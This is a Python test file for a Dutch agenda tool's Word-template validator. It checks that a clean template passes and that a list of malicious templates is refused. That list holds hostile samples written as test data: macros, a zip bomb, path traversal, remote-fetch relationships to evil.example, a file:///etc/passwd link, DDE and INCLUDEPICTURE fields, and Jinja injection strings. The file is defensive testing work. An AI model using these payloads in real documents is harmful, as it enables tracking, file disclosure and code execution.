"""A coordinator's own Word template: an honest one is used, an evil one is refused with a sentence."""

import re
from collections.abc import Callable
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

import docx
import pytest

from hub.agendas.documents import standard_template
from hub.agendas.stationery import MOST_BYTES, NotThisTemplate, check, names
from tests.papers import HOSTILE, document_of, make_paper

BODY = "word/document.xml"


def changed(**members: bytes | Callable[[bytes], bytes]) -> bytes:
    """The standard template with members changed or added; `__` stands for a slash or the dot of a name."""
    with ZipFile(BytesIO(standard_template())) as archive:
        held = {name: archive.read(name) for name in archive.namelist()}
    for name, change in members.items():
        place = {"body": BODY, "rels": "word/_rels/document.xml.rels", "kinds": "[Content_Types].xml", "footer": "word/footer.xml"}.get(
            name, name
        )
        held[place] = change if isinstance(change, bytes) else change(held[place])
    made = BytesIO()
    with ZipFile(made, "w", ZIP_DEFLATED) as archive:
        for place, content in held.items():
            archive.writestr(place, content)
    return made.getvalue()


def saying(words: str, *, where: str = "body") -> bytes:
    """The standard template with these words in its text."""
    said = f"<w:p><w:r><w:t>{words}</w:t></w:r></w:p>".encode()
    return changed(**{where: lambda xml: re.sub(rb"(<w:body>|<w:ftr[^>]*>)", lambda found: found[0] + said, xml, count=1)})


def with_xml(element: str) -> bytes:
    """The standard template with this element in its text."""
    return changed(body=lambda xml: xml.replace(b"<w:body>", f"<w:body><w:p>{element}</w:p>".encode()))


def related(kind: str, target: str, mode: str = "Internal") -> bytes:
    """The standard template with one more relation."""
    kind = f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"
    one = f'<Relationship Id="rId9" Type="{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'.encode()
    return changed(rels=lambda xml: xml.replace(b"</Relationships>", one))


EVIL = {
    "no archive": b"PK niets",
    "too large": b"0" * (MOST_BYTES + 1),
    "a bomb": changed(**{"word/media/logo.png": b"\0" * 9_000_000}),
    "macros": changed(**{"word/vbaProject.bin": b"x"}),
    "another kind": changed(kinds=lambda xml: xml.replace(b"document.main+xml", b"document.macroEnabled.main+xml")),
    "an embedded file": changed(**{"word/embeddings/oleObject1.bin": b"x"}),
    "a way out": changed(**{"../evil.xml": b"<x/>"}),
    "a remote template": related("attachedTemplate", "http://evil.example/t.dotm", "External"),
    "a remote picture": related("image", "https://evil.example/pixel.png", "External"),
    "a file elsewhere": related("image", "file:///etc/passwd"),
    "another document inside": related("aFChunk", "chunk.html"),
    "a document type": changed(body=lambda xml: xml.replace(b"<w:document", b'<!DOCTYPE x [<!ENTITY a "b">]><w:document')),
    "another encoding": changed(body=lambda xml: xml.decode().replace("UTF-8", "UTF-16").encode("utf-16")),
    "broken": changed(body=lambda xml: xml[:-20]),
    "a field that fetches": with_xml('<w:r><w:instrText>INCLUDEPICTURE "http://evil.example"</w:instrText></w:r>'),
    "a field in pieces": with_xml("<w:r><w:instrText>INCLUDE</w:instrText></w:r><w:r><w:instrText>TEXT x</w:instrText></w:r>"),
    "a short field": with_xml('<w:fldSimple w:instr="DDEAUTO c:\\\\x"/>'),
    "a field of somebody's words": with_xml("<w:r><w:instrText>{{ titel }}</w:instrText></w:r>"),
    "an object": with_xml("<w:r><w:object/></w:r>"),
    "the way to Python": saying("{{ titel.__class__.__mro__ }}"),
    "a function": saying("{{ range(9) }}"),
    "a method": saying("{{ titel.format(1) }}"),
    "a filter": saying("{{ titel | safe }}"),
    "a sum": saying("{{ 7 * 7 }}"),
    "a text of its own": saying("{{ '&lt;w:br/&gt;' }}"),
    "an unknown name": saying("{{ request }}"),
    "an unknown name of an entry": saying("{%p for deel in delen %}{{ deel.geheim }}{%p endfor %}"),
    "a list as a text": saying("{{ delen }}"),
    "a name kept": saying("{% set x = titel %}"),
    "a file taken in": saying("{% include 'paper.html' %}"),
    "a macro of the template": saying("{% macro x() %}{% endmacro %}"),
    "raw": saying("{% raw %}{{ &lt;w:instrText&gt;DDE&lt;/w:instrText&gt; }}{% endraw %}"),
    "a loop over a loop": saying("{% for a in kop %}{% for b in kop %}x{% endfor %}{% endfor %}"),
    "the outer list once more": saying("{% for d in delen %}{% for p in d.punten %}{% for q in d.punten %}x" + 3 * "{% endfor %}"),
    "a loop that is not ended": saying("{% for deel in delen %}"),
    "evil in the footer": saying("{{ request }}", where="footer"),
    "words in the properties": changed(**{"docProps/core.xml": b"<x>{{ titel }}</x>"}),
    "words in footnotes": changed(**{"word/footnotes.xml": b"<x>{<y/>{ titel }}</x>"}),
    "too many words": saying("{{ titel }}" * 500),
}  # fmt: skip


def test_the_standard_template_passes_its_own_check() -> None:
    check(standard_template())


@pytest.mark.parametrize("content", EVIL.values(), ids=EVIL)
def test_an_evil_template_is_refused_with_a_sentence(content: bytes) -> None:
    with pytest.raises(NotThisTemplate) as refused:
        check(content)

    assert refused.value.sentence.endswith(".")
    assert refused.value.__cause__ is None


def test_a_template_made_in_word_with_a_logo_and_tags_in_pieces_is_accepted_and_used() -> None:
    own = docx.Document()
    own.add_heading("Regio Noord", 1)
    line = own.add_paragraph("{")
    for piece in ("{ ti", "tel }}", " op {{ gedateerd }}"):
        line.add_run(piece)
    for words in ("{%p for deel in delen %}", "{{ deel.kop }}", "{%p for punt in deel.punten %}", "{{ punt.code }} {{ punt.titel }}",
                  "{%p if punt.eigen and not punt.regels %}", "eigen", "{%p endif %}", "{%p endfor %}", "{%p endfor %}"):  # fmt: skip
        own.add_paragraph(words)
    own.sections[0].footer.paragraphs[0].text = "{{ voettekst }}"
    own.core_properties.author = "Iemand"
    kept = BytesIO()
    own.save(kept)
    with ZipFile(BytesIO(kept.getvalue())) as archive:
        held = {one: archive.read(one) for one in archive.namelist() if not one.endswith(".jpeg")}
    held["_rels/.rels"] = re.sub(rb"<Relationship [^>]*thumbnail[^>]*>", b"", held["_rels/.rels"])
    again = BytesIO()
    with ZipFile(again, "w") as archive:
        for name, content in held.items():
            archive.writestr(name, content)

    check(again.getvalue())
    made = docx.Document(BytesIO(document_of(make_paper(HOSTILE), form="docx", template=again.getvalue())))

    said = [each.text for each in made.paragraphs]
    assert said[:2] == ["Regio Noord", f"Casuïstiekbespreking Drenthe {HOSTILE} op 2026-11-19T11:00:00Z"]
    assert f"K7F4 Bekladding {HOSTILE}" in said
    assert (made.core_properties.author, made.core_properties.last_modified_by) == ("Schakel", "Schakel")
    assert HOSTILE in made.sections[0].footer.paragraphs[0].text


def test_the_names_of_a_template_are_those_of_an_edition() -> None:
    assert {"titel", "kop[].waarde", "delen[].punten[].feiten[].label", "delen[].punten[].regels[]"} <= set(names())
